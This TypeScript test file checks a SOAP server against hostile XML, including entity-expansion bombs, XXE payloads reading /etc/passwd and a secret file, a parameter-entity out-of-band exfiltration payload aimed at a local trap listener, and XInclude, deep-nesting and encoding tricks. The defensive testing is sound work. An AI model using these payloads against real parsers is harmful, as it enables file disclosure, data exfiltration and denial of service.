// Issue 6.2: hostile XML. Entity bombs, external entities and DTDs (file and http, the http ones
// pointing at a listener of this test that counts connections), parameter entities, XInclude,
// schema locations, processing instructions, deep nesting, attribute floods, CDATA tricks, BOMs
// and UTF-16, each over SOAP 1.1 and 1.2 to a spawned production server. Each must be answered
// within 5 s with a 400 or a SOAP fault (200 only where the document is harmless), never with
// /etc/passwd or a local file's content; nothing may connect out; the server's peak RSS (VmHWM)
// must not grow by more than 64 MB over the whole run.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Answer, connectionTrap, procStatusKb, send } from './support/abuse';
import { API_NS, CONTENT_TYPE as CT, ENVELOPE_NS as ENV, SOAP11, SOAP12, SOAP_VERSIONS as VERSIONS, SoapVersion as Version, XSD, XSI } from './support/constants';
import { fileBatchBody } from './support/mock';
import { ServerProcess, spawnServer } from './support/process';
import { elementChildren, parseStrict, utf8 } from './support/wellformed';

const MAX_GROWTH_KB = 64 * 1024;

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'cora-hostile-'));
const SECRET = `cora-secret-${process.pid}-${Date.now()}`;
const secretFile = path.join(tmp, 'secret.txt');
fs.writeFileSync(secretFile, `${SECRET}\n`);
const passwdLine = fs.readFileSync('/etc/passwd', 'utf8').split('\n')[0]!; // e.g. root:x:0:0:root:/root:/bin/bash

let server: ServerProcess;
let trap: Awaited<ReturnType<typeof connectionTrap>>;
before(async () => {
  trap = await connectionTrap();
  server = await spawnServer({ DB_PATH: path.join(tmp, 'hostile.sqlite') });
});
after(async () => {
  await server?.stop('SIGKILL');
  await trap?.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

interface Payload {
  name: string;
  /** The whole request body for a version. */
  body: (v: Version) => string | Buffer;
  contentType?: (v: Version) => string;
  /** A harmless document the server may accept (200); otherwise only 400 or a fault will do. */
  mayAccept?: boolean;
}

const XML_DECL = '<?xml version="1.0" encoding="utf-8"?>';
const envOpen = (v: Version) =>
  `<soap:Envelope xmlns:soap="${ENV[v]}" xmlns:xsi="${XSI}" xmlns:xsd="${XSD}">`;
/** A FileBatch whose ExternalContext is `ctx` (raw XML), with an optional prolog (DOCTYPE, PIs) and header. */
const fileBatch = (v: Version, ctx: string, prolog = '', header = '') =>
  `${XML_DECL}${prolog}${envOpen(v)}${header ? `<soap:Header>${header}</soap:Header>` : ''}<soap:Body>${fileBatchBody({ ExternalContext: ctx })}</soap:Body></soap:Envelope>`;
const getStatus = (v: Version, idXml: string, prolog = '') =>
  `${XML_DECL}${prolog}${envOpen(v)}<soap:Header><ActivityMetadata xmlns="${API_NS}"><MasterWorkflowInstanceId>${idXml}</MasterWorkflowInstanceId></ActivityMetadata></soap:Header><soap:Body><GetStatus xmlns="${API_NS}" /></soap:Body></soap:Envelope>`;

const url = (p: string) => `http://127.0.0.1:${trap.port}${p}`;
const lols = () => {
  let d = '<!ENTITY lol "lol">';
  for (let i = 1; i <= 9; i++) d += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
  return d;
};

function payloads(): Payload[] {
  const big = 'A'.repeat(50_000);
  const p: Payload[] = [
    { name: 'billion laughs in ExternalContext', body: (v) => fileBatch(v, '&lol9;', `<!DOCTYPE soap:Envelope [${lols()}]>`) },
    { name: 'billion laughs in the header id', body: (v) => getStatus(v, '&lol9;', `<!DOCTYPE soap:Envelope [${lols()}]>`) },
    {
      name: 'quadratic blowup (50 kB entity x 15,000 references)',
      body: (v) => fileBatch(v, '&a;'.repeat(15_000), `<!DOCTYPE soap:Envelope [<!ENTITY a "${big}">]>`),
    },
    { name: 'external entity file:///etc/passwd', body: (v) => fileBatch(v, '&xxe;', '<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>') },
    { name: 'external entity of a local secret file', body: (v) => fileBatch(v, '&xxe;', `<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file://${secretFile}">]>`) },
    { name: 'external entity in the header id', body: (v) => getStatus(v, '&xxe;', '<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>') },
    { name: 'external entity over http to the trap', body: (v) => fileBatch(v, '&xxe;', `<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "${url('/xxe')}">]>`) },
    { name: 'external DTD SYSTEM http', body: (v) => fileBatch(v, 'ctx', `<!DOCTYPE soap:Envelope SYSTEM "${url('/evil.dtd')}">`) },
    { name: 'external DTD SYSTEM file', body: (v) => fileBatch(v, 'ctx', '<!DOCTYPE soap:Envelope SYSTEM "file:///etc/passwd">') },
    { name: 'external DTD PUBLIC http', body: (v) => fileBatch(v, 'ctx', `<!DOCTYPE soap:Envelope PUBLIC "-//EVIL//DTD X//EN" "${url('/public.dtd')}">`) },
    {
      name: 'parameter entity fetching a remote DTD',
      body: (v) => fileBatch(v, 'ctx', `<!DOCTYPE soap:Envelope [<!ENTITY % remote SYSTEM "${url('/param.dtd')}"> %remote;]>`),
    },
    {
      name: 'parameter entity out-of-band exfiltration',
      body: (v) =>
        fileBatch(
          v,
          '&send;',
          `<!DOCTYPE soap:Envelope [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % wrap "<!ENTITY send SYSTEM '${url('/?d=')}%file;'>"> %wrap;]>`,
        ),
    },
    { name: 'internal entity (harmless, but a DTD)', body: (v) => fileBatch(v, '&e;', '<!DOCTYPE soap:Envelope [<!ENTITY e "plain">]>') },
    { name: 'undeclared entity reference', body: (v) => fileBatch(v, '&undeclared;') },
    {
      name: 'XInclude of /etc/passwd in the body',
      body: (v) => fileBatch(v, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
      mayAccept: true,
    },
    {
      name: 'XInclude of the secret file in the body',
      body: (v) => fileBatch(v, `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secretFile}" parse="text"/>`),
      mayAccept: true,
    },
    {
      name: 'XInclude over http in the header',
      body: (v) =>
        fileBatch(
          v,
          'ctx',
          '',
          `<ActivityMetadata xmlns="${API_NS}"><WorkflowName><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url('/xinclude')}" parse="text"/></WorkflowName></ActivityMetadata>`,
        ),
      mayAccept: true,
    },
    {
      name: 'XInclude of /etc/passwd as the whole header',
      body: (v) => fileBatch(v, 'ctx', '', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="xml"/>'),
      mayAccept: true,
    },
    {
      name: 'schemaLocation pointing at the trap',
      body: (v) =>
        fileBatch(v, 'ctx').replace(
          '<soap:Body>',
          `<soap:Body xsi:schemaLocation="${API_NS} ${url('/schema.xsd')}" xsi:noNamespaceSchemaLocation="${url('/nons.xsd')}">`,
        ),
      mayAccept: true,
    },
    {
      name: 'processing instructions (stylesheet to the trap, in prolog and body)',
      body: (v) => fileBatch(v, 'ctx<?evil data?>', `<?xml-stylesheet type="text/xsl" href="${url('/x.xsl')}"?>`),
      mayAccept: true,
    },
    { name: 'processing instruction named xml mid-document', body: (v) => fileBatch(v, '<?xml version="1.0"?>') },
    { name: '10,000-deep nesting in the body', body: (v) => fileBatch(v, `${'<a>'.repeat(10_000)}x${'</a>'.repeat(10_000)}`) },
    {
      name: '10,000-deep nesting in the header',
      body: (v) => fileBatch(v, 'ctx', '', `<ActivityMetadata xmlns="${API_NS}">${'<b>'.repeat(10_000)}${'</b>'.repeat(10_000)}</ActivityMetadata>`),
    },
    { name: '100,000 unclosed nested elements', body: (v) => fileBatch(v, '<a>'.repeat(100_000)) },
    { name: '10,000 attributes on one element', body: (v) => fileBatch(v, 'ctx').replace('<TimeOut>', `<TimeOut${Array.from({ length: 10_000 }, (_, i) => ` a${i}="v"`).join('')}>`) },
    {
      name: '10,000 namespace declarations',
      body: (v) => fileBatch(v, 'ctx').replace('<soap:Body>', `<soap:Body${Array.from({ length: 10_000 }, (_, i) => ` xmlns:n${i}="urn:n${i}"`).join('')}>`),
    },
    { name: 'duplicate attributes', body: (v) => fileBatch(v, 'ctx').replace('<TimeOut>', '<TimeOut a="1" a="2">') },
    { name: 'a 500 kB attribute value', body: (v) => fileBatch(v, 'ctx').replace('<TimeOut>', `<TimeOut a="${'x'.repeat(500_000)}">`), mayAccept: true },
    { name: '50,000 sibling elements', body: (v) => fileBatch(v, '<i/>'.repeat(50_000)) },
    { name: 'a 200 kB element name', body: (v) => fileBatch(v, `<${'n'.repeat(200_000)}/>`), mayAccept: true },
    { name: 'CDATA holding a DOCTYPE and an entity', body: (v) => fileBatch(v, '<![CDATA[<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;]]>'), mayAccept: true },
    { name: 'CDATA terminator split across sections', body: (v) => fileBatch(v, '<![CDATA[]]]]><![CDATA[>]]>'), mayAccept: true },
    { name: 'unterminated CDATA', body: (v) => fileBatch(v, '<![CDATA[never ends') },
    { name: 'CDATA in a numeric field', body: (v) => fileBatch(v, 'ctx').replace('<TimeOut>300', '<TimeOut><![CDATA[300]]>'), mayAccept: true },
    { name: 'comment with -- inside', body: (v) => fileBatch(v, '<!-- a -- b -->') },
    { name: 'UTF-8 BOM', body: (v) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(fileBatch(v, 'bom'))]), mayAccept: true },
    { name: 'two UTF-8 BOMs', body: (v) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0xef, 0xbb, 0xbf]), Buffer.from(fileBatch(v, 'bom'))]) },
    {
      name: 'UTF-16LE with BOM, labelled utf-16',
      body: (v) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(fileBatch(v, 'u16').replace('utf-8', 'utf-16'), 'utf16le')]),
      contentType: (v) => CT[v].replace('utf-8', 'utf-16'),
      mayAccept: true,
    },
    {
      name: 'UTF-16BE with BOM, labelled utf-8',
      body: (v) => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(fileBatch(v, 'u16'), 'utf16le').swap16()]),
    },
    {
      name: 'UTF-16LE without BOM, no charset',
      body: (v) => Buffer.from(fileBatch(v, 'u16'), 'utf16le'),
      contentType: (v) => CT[v].split(';')[0]!,
    },
    { name: 'UTF-32 BOM', body: (v) => Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x00]), Buffer.from(fileBatch(v, 'u32'))]) },
    { name: 'declaration says utf-16, bytes are utf-8', body: (v) => fileBatch(v, 'x').replace('encoding="utf-8"', 'encoding="utf-16"'), mayAccept: true },
    { name: 'XML 1.1 with C0 control character references', body: (v) => fileBatch(v, 'a&#x1;&#x8;&#x1b;b').replace('version="1.0"', 'version="1.1"') },
    { name: 'NUL character reference', body: (v) => fileBatch(v, '&#0;') },
    { name: 'surrogate character reference', body: (v) => fileBatch(v, '&#xD800;') },
    { name: 'raw NUL byte in text', body: (v) => fileBatch(v, 'a\u0000b') },
  ];
  return p;
}

function hasLeak(text: string): string | null {
  if (text.includes(passwdLine) || /root:x?:0:0:/.test(text)) return '/etc/passwd content';
  if (text.includes(SECRET)) return 'the secret file content';
  return null;
}

function checkAnswer(name: string, v: Version, p: Payload, a: Answer): string[] {
  const problems: string[] = [];
  const text = a.body.toString('utf8');
  const leak = hasLeak(text);
  if (leak) problems.push(`answer contains ${leak}`);
  if (!a.complete) problems.push('incomplete answer');
  const allowed = p.mayAccept ? [200, 400, 413, 415, 500] : [400, 413, 415, 500];
  if (!allowed.includes(a.status)) problems.push(`status ${a.status} (allowed ${allowed.join('/')}): ${text.slice(0, 200)}`);
  if ((a.status === 400 || a.status === 415) && a.body.length) problems.push(`${a.status} with a body`);
  if (a.status === 500 || a.status === 200) {
    const s = utf8(a.body);
    const parsed = s === null ? null : parseStrict(s);
    if (!parsed || !parsed.ok) problems.push(`${a.status} answer not well-formed: ${parsed && !parsed.ok ? parsed.why : 'not UTF-8'}`);
    else {
      const ns = parsed.root.namespaceURI;
      if (parsed.root.localName !== 'Envelope' || (ns !== SOAP11 && ns !== SOAP12)) problems.push(`${a.status} answer is not a SOAP envelope`);
      const body = elementChildren(parsed.root).find((e) => e.localName === 'Body');
      const first = body && elementChildren(body)[0];
      if (a.status === 500 && first?.localName !== 'Fault') problems.push('500 without a Fault');
      const ver = ns === SOAP12 ? '1.2' : '1.1';
      if (a.headers['content-type'] !== CT[ver]) problems.push(`content type ${a.headers['content-type']} for SOAP ${ver}`);
    }
  }
  return problems.map((x) => `${name} (SOAP ${v}): ${x}`);
}

describe('hostile XML', () => {
  it('every hostile document is refused quickly, with no expansion, no file read, no outbound connection and bounded memory', async (t) => {
    // Warm up (JIT, SQLite pages) so the baseline is the server at work, not just started.
    for (let i = 0; i < 20; i++) {
      await send(server.serviceUrl, { method: 'POST', headers: { 'Content-Type': CT['1.1'] }, body: fileBatch('1.1', `warm-${i}`) });
    }
    const baseline = procStatusKb(server.pid, 'VmHWM')!;
    const problems: string[] = [];
    const growth: [string, number][] = [];
    const accepted: string[] = [];
    let tried = 0;
    let slowest = 0;
    for (const p of payloads()) {
      for (const v of VERSIONS) {
        tried++;
        const name = p.name;
        const hwmBefore = procStatusKb(server.pid, 'VmHWM')!;
        let a: Answer;
        try {
          a = await send(server.serviceUrl, {
            method: 'POST',
            headers: { 'Content-Type': p.contentType?.(v) ?? CT[v] },
            body: p.body(v),
            timeoutMs: 5000,
          });
        } catch (err) {
          problems.push(`${name} (SOAP ${v}): no answer: ${(err as Error).message}`);
          if (!server.alive()) problems.push(`server died: ${server.output().slice(-1500)}`);
          continue;
        }
        slowest = Math.max(slowest, a.ms);
        problems.push(...checkAnswer(name, v, p, a));
        const id = /<MasterWorkflowInstanceId>(\d+)</.exec(a.body.toString('utf8'))?.[1];
        if (a.status === 200 && id) {
          accepted.push(`${name} (SOAP ${v}) -> ${id}`);
          // What was stored must not hold a file's content either.
          const st = await send(server.serviceUrl, { method: 'POST', headers: { 'Content-Type': CT['1.1'] }, body: getStatus('1.1', id) });
          const detail = await send(`${server.origin}/__admin/batches/${id}`);
          for (const [where, text] of [['GetStatus', st.body.toString()], ['admin batch', detail.body.toString()]] as const) {
            const leak = hasLeak(text);
            if (leak) problems.push(`${name} (SOAP ${v}): ${where} of batch ${id} contains ${leak}`);
          }
        }
        const hwmAfter = procStatusKb(server.pid, 'VmHWM') ?? hwmBefore;
        growth.push([`${name} (SOAP ${v})`, hwmAfter - hwmBefore]);
      }
    }
    // Any outbound attempt has landed on the trap once the server has answered one more request
    // (it has finished with every earlier one) and the trap has accepted a connection made after that.
    const last = await send(server.serviceUrl, { method: 'POST', headers: { 'Content-Type': CT['1.1'] }, body: fileBatch('1.1', 'after-hostile') });
    assert.equal(last.status, 200, 'a harmless request after the hostile ones is answered');
    await trap.settle();
    const peak = procStatusKb(server.pid, 'VmHWM')!;
    const top = growth
      .filter(([, kb]) => kb > 0)
      .sort((a, b) => b[1] - a[1])
      .slice(0, 5)
      .map(([n, kb]) => `${n} +${(kb / 1024).toFixed(1)} MB`);
    const summary =
      `hostile XML: ${tried} payloads, slowest answer ${slowest} ms, peak RSS (VmHWM) ${(peak / 1024).toFixed(1)} MB ` +
      `(baseline ${(baseline / 1024).toFixed(1)} MB, growth ${((peak - baseline) / 1024).toFixed(1)} MB), outbound connections ${trap.connections()}`;
    console.log(summary);
    if (top.length) console.log(`largest peak growth: ${top.join('; ')}`);
    if (accepted.length) console.log(`accepted as harmless (200): ${accepted.join('; ')}`);
    t.diagnostic(summary);
    assert.ok(server.alive(), 'server still up');
    assert.equal(trap.connections(), 0, 'no connection was made to the test listener');
    assert.ok(peak - baseline < MAX_GROWTH_KB, `peak RSS grew by ${((peak - baseline) / 1024).toFixed(1)} MB (limit 64 MB): ${top.join('; ')}`);
    assert.deepEqual(problems, []);
  });
});
